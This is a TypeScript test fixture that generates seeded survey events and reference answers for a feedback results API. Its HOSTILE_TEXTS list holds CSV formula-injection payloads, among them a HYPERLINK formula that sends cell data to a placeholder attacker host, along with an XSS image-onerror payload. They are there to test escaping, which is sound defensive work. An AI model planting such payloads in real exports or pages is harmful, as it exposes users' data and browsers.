/**
 * A known data set for the results API and the reference answers it must equal, computed by core over the raw
 * events: eight weeks of core's sample data with changed answers, plus hand-made edge cases (one touchpoint with
 * two metrics, CES 5 and CES 7 at one touchpoint, events without a device or locale, region locales in mixed case,
 * hostile verbatims, answers by link, e-mail and QR code beside web answers that name no channel).
 */
import { randomUUID } from 'node:crypto';
import {
  addToTally,
  type CesPoints,
  type Channel,
  channelOf,
  createTally,
  type Metric,
  type ScoreSummary,
  summarizeEvents,
  type Tally,
  type TouchpointSummary,
  type WireEvent,
} from '@touchpoint/core';
import { generateSampleEvents, SAMPLE_TOUCHPOINTS, seededRandom } from '@touchpoint/core/sample';
import type { SurveyKind } from '../../src/store/store';

/** Monday 3 August 2026: the first day of the data set. */
export const DATA_START = Date.parse('2026-08-03T00:00:00.000Z');
export const DATA_WEEKS = 8;
/** When every batch was sent and received: corrected times then equal the events' own `at`. */
export const DELIVERED_AT = DATA_START + (DATA_WEEKS * 7 + 1) * 86_400_000;

/** Texts a respondent could use to attack whoever opens an export or a page (fault case 57). */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tTabbed',
  '\rreturn',
  '<img src=x onerror=alert(1)>',
  'Quote " and, comma\nand a new line',
] as const;

export const EXTRA_SURVEYS: readonly SurveyKind[] = [
  { surveyId: 'nps-chat', metric: 'nps' },
  { surveyId: 'csat-chat', metric: 'csat' },
  { surveyId: 'ces5-onboarding', metric: 'ces', points: 5 },
];

export const SURVEYS: readonly SurveyKind[] = [
  ...SAMPLE_TOUCHPOINTS.map((tp) => ({ surveyId: tp.surveyId, metric: tp.metric })),
  ...EXTRA_SURVEYS,
];

const kinds = new Map(SURVEYS.map((survey) => [survey.surveyId, survey]));
export const metricOf = (surveyId: string) => kinds.get(surveyId);

export interface Segment {
  readonly device?: string;
  readonly locale?: string;
  readonly path?: string;
  readonly channel?: Channel;
}

/** The channel of the i-th hand-made response: every channel, and web both named and left out (the default). */
const CHANNEL_CYCLE = [undefined, 'link', 'email', 'qr', 'web'] as const;

const DEVICES = ['desktop', 'mobile', 'tablet', undefined] as const;
const LOCALES = ['en', 'nl', 'nl-BE', 'NL-be', 'fr', undefined] as const;

function pick<T>(random: () => number, items: readonly T[]): T {
  return items[Math.floor(random() * items.length)]!;
}

/** Hand-made responses: shown, then completed (score and maybe a text) or dismissed. */
function edgeCases(random: () => number): WireEvent[] {
  const events: WireEvent[] = [];
  const specs = [
    { surveyId: 'nps-chat', touchpoint: 'support.chat', type: 'nps', min: 0, max: 10, count: 70 },
    { surveyId: 'csat-chat', touchpoint: 'support.chat', type: 'csat', min: 1, max: 5, count: 60 },
    { surveyId: 'ces5-onboarding', touchpoint: 'onboarding.step3', type: 'ces', min: 1, max: 5, count: 45 },
  ] as const;
  let hostile = 0;
  for (const spec of specs) {
    for (let i = 0; i < spec.count; i++) {
      const shownAt = DATA_START + Math.floor(random() * DATA_WEEKS * 7) * 86_400_000 + 36_000_000;
      const device = pick(random, DEVICES);
      const locale = pick(random, LOCALES);
      const channel = CHANNEL_CYCLE[i % CHANNEL_CYCLE.length];
      const base = {
        v: 1 as const,
        surveyId: spec.surveyId,
        touchpoint: spec.touchpoint,
        responseId: randomUUID(),
        context: {
          path: random() < 0.5 ? '/help/chat' : '/help/chat/nl',
          ...(locale === undefined ? {} : { locale }),
          ...(device === undefined ? {} : { device }),
          ...(channel === undefined ? {} : { channel }),
        },
        visitor: { id: `v-${i}` },
      };
      events.push({
        ...base,
        id: randomUUID(),
        type: 'shown',
        at: new Date(shownAt).toISOString(),
      } as WireEvent);
      if (random() < 0.2) {
        events.push({
          ...base,
          id: randomUUID(),
          type: 'dismissed',
          at: new Date(shownAt + 2000).toISOString(),
        } as WireEvent);
        continue;
      }
      const value = spec.min + Math.floor(random() * (spec.max - spec.min + 1));
      const score =
        spec.type === 'ces'
          ? { questionId: 'score', type: 'ces', value, points: 5 }
          : { questionId: 'score', type: spec.type, value };
      const text =
        hostile < HOSTILE_TEXTS.length && spec.touchpoint === 'support.chat'
          ? HOSTILE_TEXTS[hostile++]
          : random() < 0.4
            ? `Answer ${i} of ${spec.surveyId}`
            : undefined;
      events.push({
        ...base,
        id: randomUUID(),
        type: 'completed',
        at: new Date(shownAt + 5000 + i).toISOString(),
        answers: text === undefined ? [score] : [score, { questionId: 'why', type: 'text', value: text }],
      } as WireEvent);
    }
  }
  return events;
}

/** Later changes of some answers: `answered` events that must lose, second `completed` events that must win. */
function changes(events: readonly WireEvent[], random: () => number): WireEvent[] {
  const extra: WireEvent[] = [];
  for (const e of events) {
    if (e.type !== 'completed' || random() > 0.15) continue;
    const score = e.answers.find((a) => a.type !== 'text');
    if (score === undefined) continue;
    const top = score.type === 'nps' ? 11 : score.type === 'ces' && score.points !== 5 ? 7 : 5;
    const changed = { ...score, value: (score.type === 'nps' ? 0 : 1) + Math.floor(random() * top) };
    const text =
      random() < 0.5 ? [{ questionId: 'why', type: 'text' as const, value: 'I changed my mind' }] : [];
    extra.push({
      ...e,
      id: randomUUID(),
      type: random() < 0.5 ? 'answered' : 'completed',
      at: new Date(Date.parse(e.at) + 60_000).toISOString(),
      answers: [changed, ...text],
    } as WireEvent);
  }
  return extra;
}

/**
 * The whole data set. A response's events all fall on one UTC day: the rollups count an answer on the day of its
 * winning event, while core summarizing a day range would count a response whose events straddle the range's
 * edge on both sides, so such responses are left out (a handful).
 */
export function resultsDataSet(seed = 2026): WireEvent[] {
  const random = seededRandom(seed);
  const sample = generateSampleEvents({ random, start: DATA_START, weeks: DATA_WEEKS });
  const base = [...sample, ...edgeCases(random)];
  const all = [...base, ...changes(base, random)];
  const days = new Map<string, Set<string>>();
  for (const e of all) days.set(e.responseId, (days.get(e.responseId) ?? new Set()).add(e.at.slice(0, 10)));
  return all.filter((e) => days.get(e.responseId)!.size === 1 && Date.parse(e.at) < DELIVERED_AT);
}

export const dayOf = (event: WireEvent) => event.at.slice(0, 10);

/** The events of a range and segment, as the results API filters them. */
export function inRange(
  events: readonly WireEvent[],
  from: string,
  to: string,
  segment: Segment = {},
): WireEvent[] {
  return events.filter((event) => {
    const day = dayOf(event);
    if (day < from || day > to) return false;
    if (segment.device !== undefined && event.context.device !== segment.device) return false;
    if (segment.path !== undefined && event.context.path !== segment.path) return false;
    if (segment.channel !== undefined && channelOf(event.context) !== segment.channel) return false;
    if (segment.locale !== undefined) {
      const locale = event.context.locale?.toLowerCase();
      const wanted = segment.locale.toLowerCase();
      if (locale !== wanted && !locale?.startsWith(`${wanted}-`)) return false;
    }
    return true;
  });
}

/** Core's summaries of some events (display counts attributed by the surveys' metrics). */
export const summarize = (events: readonly WireEvent[]): TouchpointSummary[] =>
  summarizeEvents(events, { metricOf });

export const pointsOf = (summary: ScoreSummary): 0 | CesPoints =>
  summary.metric === 'ces' ? (summary.scale.max === 5 ? 5 : 7) : 0;

/** The summary of one touchpoint × metric among core's summaries, if any. */
export function find(
  summaries: readonly TouchpointSummary[],
  touchpoint: string,
  metric: Metric,
  points: 0 | CesPoints,
): TouchpointSummary | undefined {
  return summaries.find((s) => s.touchpoint === touchpoint && s.metric === metric && pointsOf(s) === points);
}

/** The tally behind a summary, from its distribution. */
export function tallyOfSummary(
  summary: ScoreSummary | undefined,
  metric: Metric,
  points: 0 | CesPoints,
): Tally {
  let tally = createTally(metric, points === 0 ? 7 : points);
  for (const { value, count } of summary?.distribution ?? [])
    if (count > 0) tally = addToTally(tally, value, count);
  return tally;
}

/** The verbatims of some events, newest first: each response × text question's winning text with the winning score. */
export function expectedVerbatims(events: readonly WireEvent[]) {
  type Win = { event: WireEvent; value: string | number };
  const beats = (a: WireEvent, b: WireEvent) =>
    a.type !== b.type ? a.type === 'completed' : a.at !== b.at ? a.at > b.at : a.id > b.id;
  const texts = new Map<string, Win & { questionId: string }>();
  const scores = new Map<string, Win & { metric: Metric; points: CesPoints }>();
  const unique = new Map(events.map((e) => [e.id, e]));
  for (const event of unique.values()) {
    if (event.type !== 'answered' && event.type !== 'completed') continue;
    for (const answer of event.answers) {
      const key = `${event.responseId}\u0000${answer.questionId}`;
      if (answer.type === 'text') {
        const current = texts.get(key);
        if (current === undefined || beats(event, current.event))
          texts.set(key, { event, value: answer.value, questionId: answer.questionId });
      } else {
        const current = scores.get(event.responseId);
        if (current === undefined || beats(event, current.event))
          scores.set(event.responseId, {
            event,
            value: answer.value,
            metric: answer.type,
            points: answer.type === 'ces' ? (answer.points ?? 7) : 7,
          });
      }
    }
  }
  const out = [];
  for (const text of texts.values()) {
    const score = scores.get(text.event.responseId);
    if (score === undefined) continue;
    out.push({
      responseId: text.event.responseId,
      questionId: text.questionId,
      at: text.event.at,
      touchpoint: text.event.touchpoint,
      surveyId: text.event.surveyId,
      metric: score.metric,
      points: score.points,
      score: score.value as number,
      text: text.value as string,
      locale: text.event.context.locale,
      device: text.event.context.device,
      path: text.event.context.path,
      channel: channelOf(text.event.context),
    });
  }
  return out.sort((a, b) => (a.at !== b.at ? (a.at < b.at ? 1 : -1) : a.responseId < b.responseId ? 1 : -1));
}
